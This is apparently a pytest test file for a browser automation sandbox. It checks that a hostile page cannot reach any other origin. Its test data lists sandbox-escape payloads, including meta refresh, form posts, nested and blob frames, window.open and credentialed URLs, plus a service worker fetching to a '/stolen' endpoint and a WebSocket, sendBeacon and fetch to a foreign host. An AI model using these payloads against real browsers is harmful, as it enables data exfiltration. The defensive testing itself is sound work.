"""A page that wants out: whatever it tries, no other origin hears of it (B21; contract, Pages)."""

from __future__ import annotations

import asyncio

import pytest

from lessor.browser.session import LiveSession
from lessor.messages.action import Click
from tests.support.engines import Rig, do, go, look, named, script, soon
from tests.support.web import Web

pytestmark = pytest.mark.asyncio(loop_scope="session")

WAYS = {
    "meta refresh": "<meta http-equiv=refresh content='0;url={other}/out'>",
    "location": "<script>location = '{other}/out'</script>",
    "form post": "<form id=f method=post action={other}/out><input name=q value=1></form><script>f.submit()</script>",
    "form into a frame": "<iframe name=i></iframe><form id=f target=i method=post action={other}/out></form>"
    "<script>f.submit()</script>",
    "nested frame": "<iframe srcdoc='<iframe src={other}/out></iframe>'></iframe>",
    "object": "<object data={other}/out type=text/html></object><embed src={other}/out type=text/html>",
    "credentials": "<script>location = 'http://me:secret@localhost:{port}/out'</script>",
    "redirect through here": "<script>location = '/to?{other}/out'</script>",
    "window.open": "<script>open('{other}/out'); open('{other}/out', '', 'noopener')</script>",
    "window.open and write": "<script>const w = open('about:blank'); w.location = '{other}/out'</script>",
    "blob page": "<script>open(URL.createObjectURL(new Blob(['<iframe src={other}/out></iframe>'], "
    "{{type: 'text/html'}})))</script>",
    "srcdoc with base": "<base href={other}/><iframe src=out></iframe><a id=a href=out>x</a><script>a.click()</script>",
    "download of another origin": "<a id=a download href={other}/out>x</a><script>a.click()</script>",
    "external protocol": "<script>location = 'mailto:out@elsewhere.example'</script>",
}


@pytest.mark.parametrize("way", WAYS)
async def test_b21_no_document_leaves_for_another_origin(session: LiveSession, web: Web, way: str) -> None:
    web.pages["/hostile"] = WAYS[way].format(other=web.other, port=web.port) + "<p>here</p>"
    web.pages["/after"] = "<p>after</p>"
    await session.navigate("main", f"{web.origin}/hostile", soon())
    await _settled(session)
    assert {host for _, host, _ in web.log} <= {f"127.0.0.1:{web.port}"}, web.log
    assert (await go(session, f"{web.origin}/after")).text == "after", "the tab is usable"


async def _settled(session: LiveSession) -> None:
    """What a page begins by itself has been refused by then: two looks, and a round trip of the page's own."""
    for _ in range(2):
        await session.observe("main", soon())
        await asyncio.sleep(0.1)


async def test_b21_a_service_worker_gets_no_further(rig: Rig, web: Web) -> None:
    web.log.clear()
    worker = f"addEventListener('fetch', (e) => e.respondWith(fetch('{web.other}/stolen', {{mode: 'no-cors'}})))"
    web.pages["/sw.js"] = (200, {"content-type": "text/javascript"}, worker)
    web.pages["/page"] = "<p>page</p>"
    session = await rig.start(rig.engine(), rig.spec(web.origin, strict=True))
    await go(session, f"{web.origin}/page")
    await script(session, "navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready)")
    await script(session, "fetch('/anything').catch(() => 0)")
    await session.navigate("main", f"{web.origin}/page", soon())
    assert {host for _, host, _ in web.log} == {f"127.0.0.1:{web.port}"}


async def test_b21_a_strict_profile_opens_no_web_socket_elsewhere(rig: Rig, web: Web) -> None:
    web.log.clear()
    web.pages["/page"] = "<button>Go</button>"
    session = await rig.start(rig.engine(), rig.spec(web.origin, strict=True))
    page = await go(session, f"{web.origin}/page")
    url = web.other.replace("http", "ws")
    closed = await script(
        session,
        f"new Promise((done) => {{ const s = new WebSocket('{url}/ws'); s.onopen = () => done('open');"
        " s.onclose = s.onerror = () => done('closed'); })",
    )
    assert closed == "closed"
    await script(session, f"navigator.sendBeacon('{web.other}/beacon', 'x')")
    await script(session, f"fetch('{web.other}/fetch', {{mode: 'no-cors'}}).catch(() => 0)")
    await do(session, Click(ref=named(page, "Go").ref), page)
    await look(session)
    assert {host for _, host, _ in web.log} == {f"127.0.0.1:{web.port}"}
